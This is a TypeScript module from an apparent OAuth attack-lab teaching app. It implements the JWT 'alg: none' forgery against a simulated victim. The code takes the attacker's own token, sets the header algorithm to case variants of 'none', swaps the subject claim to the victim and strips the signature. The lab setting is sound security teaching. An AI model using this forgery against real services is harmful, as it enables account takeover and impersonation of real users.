import { patched, readToken, unsignedToken } from '@/lib/attack-lab/forge';
import { ok } from '@/lib/oauth-client/result';
import { ALG_NONE_STEPS } from './alg-none.steps';
import { forgeFailed, VICTIM, VICTIM_NAME } from './mallory';
import { tokenForgeryMachine, type Forger } from './token-forgery';

/** The spellings of `none` Mallory tries (RFC 7515 §4.1.1: `alg` is case-sensitive). */
export const NONE_SPELLINGS = ['none', 'None', 'NONE', 'nOnE'] as const;

/** RFC 8725 §2.1: an unsigned token with an edited payload. No request: she forges in her own browser. */
export const forgeAlgNone: Forger = async ({ step, own, variant }) => {
  const read = readToken(own.tokens.access_token);
  if (!read.ok) return forgeFailed(step, read.message);
  const alg = NONE_SPELLINGS.find((s) => s === variant) ?? 'none';
  const parts = { header: patched(read.value.header, { alg, kid: undefined }), payload: patched(read.value.payload, { sub: VICTIM }) };
  const token = unsignedToken(parts);
  const facts = [
    { label: 'Header alg', value: `${String(read.value.header.alg)} → ${alg}` },
    { label: 'Claim sub', value: `${String(read.value.payload.sub)} → ${VICTIM}` },
    { label: 'Signature', value: 'removed (empty)' },
  ];
  return {
    step,
    exchanges: [],
    facts,
    result: ok({ token, victim: VICTIM, victimName: VICTIM_NAME, sent: `the unsigned token (alg "${alg}", no signature)` }),
  };
};

export const algNoneMachine = tokenForgeryMachine('algNone', ALG_NONE_STEPS, forgeAlgNone);
